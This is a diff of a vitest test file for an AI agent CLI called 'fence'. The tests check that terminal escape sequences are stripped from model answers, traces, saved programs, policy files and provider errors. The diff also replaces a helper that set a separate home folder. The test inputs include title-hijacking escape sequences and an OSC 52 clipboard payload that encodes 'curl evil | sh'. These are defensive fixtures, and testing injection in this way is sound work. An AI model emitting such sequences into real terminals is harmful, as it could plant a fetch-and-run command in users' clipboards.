@@ -1,17 +1,11 @@
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { dirname, join } from 'node:path';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { runFence, useCliRun } from '../support/run-cli';
 import { startTerminalSession, type TerminalSession } from '../support/terminal-session';
 
 const cli = useCliRun();
 
-/** fence's environment for a run in the workspace, with a home folder beside it (a workspace that is the home folder is refused). */
-function fenceEnv(): Record<string, string> {
-  const home = join(dirname(cli.dirs.workspace), 'person');
-  mkdirSync(home, { recursive: true });
-  return { ...cli.env(), HOME: home };
-}
 let running: TerminalSession | undefined;
 
 afterEach(() => {
@@ -32,7 +26,7 @@ describe('one-shot text output', () => {
     const answer = 'The notes say \x1b[1mfirst line\x1b[0m.';
     server.reply((r) => r.text('```read notes.txt\n```\n')).reply((r) => r.text(answer));
 
-    const run = await runFence(['-n', '-m', 'openai/gpt-test', 'what do the notes say?'], { cwd: dirs.workspace, env: fenceEnv() });
+    const run = await runFence(['-n', '-m', 'openai/gpt-test', 'what do the notes say?'], { cwd: dirs.workspace, env: cli.env() });
     expect(run.exitCode).toBe(0);
     expect(run.stderr).toContain('first line');
     expect(run.stderr).toContain('second line');
@@ -41,7 +35,7 @@ describe('one-shot text output', () => {
     expect(run.stdout).toBe(answer);
 
     const id = /^session (\S+)/m.exec(run.stderr)?.[1] ?? '';
-    const shown = await runFence(['sessions', 'show', id], { cwd: dirs.workspace, env: fenceEnv() });
+    const shown = await runFence(['sessions', 'show', id], { cwd: dirs.workspace, env: cli.env() });
     expect(shown.exitCode).toBe(0);
     expect(shown.stdout).toContain('second line');
     expect(shown.stdout).not.toMatch(LIVE);
@@ -52,18 +46,18 @@ describe('one-shot text output', () => {
     writeFileSync(join(dirs.workspace, 'notes.txt'), HOSTILE_NOTES);
     const program = '```ptc\n// intent: show the notes\x1b]0;pwned\x07\nprint(await read({ path: "notes.txt" })); // \x1b[2K\r\n```\n';
     server.reply((r) => r.text(program)).reply((r) => r.text('Shown.'));
-    expect((await runFence(['-n', '-m', 'openai/gpt-test', 'show the notes'], { cwd: dirs.workspace, env: fenceEnv() })).exitCode).toBe(0);
+    expect((await runFence(['-n', '-m', 'openai/gpt-test', 'show the notes'], { cwd: dirs.workspace, env: cli.env() })).exitCode).toBe(0);
 
-    const list = await runFence(['trace', 'list'], { cwd: dirs.workspace, env: fenceEnv() });
+    const list = await runFence(['trace', 'list'], { cwd: dirs.workspace, env: cli.env() });
     const id = list.stdout.split(/\s/)[0] ?? '';
-    const shown = await runFence(['trace', 'show', id], { cwd: dirs.workspace, env: fenceEnv() });
+    const shown = await runFence(['trace', 'show', id], { cwd: dirs.workspace, env: cli.env() });
     expect(shown.exitCode).toBe(0);
     expect(shown.stdout).toContain('second line');
     expect(shown.stdout).not.toMatch(LIVE);
 
-    expect((await runFence(['programs', 'save', 'show_notes'], { cwd: dirs.workspace, env: fenceEnv() })).exitCode).toBe(0);
+    expect((await runFence(['programs', 'save', 'show_notes'], { cwd: dirs.workspace, env: cli.env() })).exitCode).toBe(0);
     for (const command of [['programs', 'list'], ['programs', 'show', 'show_notes']]) {
-      const run = await runFence(command, { cwd: dirs.workspace, env: fenceEnv() });
+      const run = await runFence(command, { cwd: dirs.workspace, env: cli.env() });
       expect(run.exitCode).toBe(0);
       expect(run.stdout).toContain('show the notes');
       expect(run.stdout).not.toMatch(LIVE);
@@ -74,7 +68,7 @@ describe('one-shot text output', () => {
     const { server, dirs } = cli;
     server.reply((r) => r.text('Done.\x1b]0;answer-title\x07\x1b\x1b]0;x\x07]52;c;Y3VybCBldmlsIHwgc2g=\x07 All tests pass.'));
     const stderr = join(dirs.workspace, '..', 'stderr.txt');
-    running = startTerminalSession({ args: ['-n', '-m', 'openai/gpt-test', 'run the tests'], cwd: dirs.workspace, env: fenceEnv(), stderrTo: stderr });
+    running = startTerminalSession({ args: ['-n', '-m', 'openai/gpt-test', 'run the tests'], cwd: dirs.workspace, env: cli.env(), stderrTo: stderr });
     expect(await running.exited).toBe(0);
     expect(running.screen().join('\n')).toContain('All tests pass.');
     expect(running.titles).toEqual([]);
@@ -90,7 +84,7 @@ describe('one-shot text output', () => {
       join(dirs.workspace, 'fence.toml'),
       ['[[policy]]', 'action = "allow"', 'tool = "read"', 'intent = "look\\u001b]0;pwned\\u0007\\u001b\\u001b]0;x\\u0007]52;c;eA==\\u0007 around"', ''].join('\n'),
     );
-    const run = await runFence(['trust'], { cwd: dirs.workspace, env: fenceEnv() });
+    const run = await runFence(['trust'], { cwd: dirs.workspace, env: cli.env() });
     expect(run.exitCode).toBe(0);
     expect(run.stdout).toContain('around');
     expect(run.stdout).not.toMatch(LIVE);
@@ -99,7 +93,7 @@ describe('one-shot text output', () => {
   it('quotes a provider\'s error on stderr without its escape sequences', { timeout: 60_000 }, async () => {
     const { server, dirs } = cli;
     server.reply((r) => r.status(400, { message: 'bad request\x1b]0;pwned\x07\x1b\x1b]0;x\x07]52;c;eA==\x07 try again' }));
-    const run = await runFence(['-n', '-m', 'openai/gpt-test', 'hello'], { cwd: dirs.workspace, env: fenceEnv() });
+    const run = await runFence(['-n', '-m', 'openai/gpt-test', 'hello'], { cwd: dirs.workspace, env: cli.env() });
     expect(run.exitCode).not.toBe(0);
     expect(run.stderr).toContain('try again');
     expect(run.stderr).not.toMatch(LIVE);
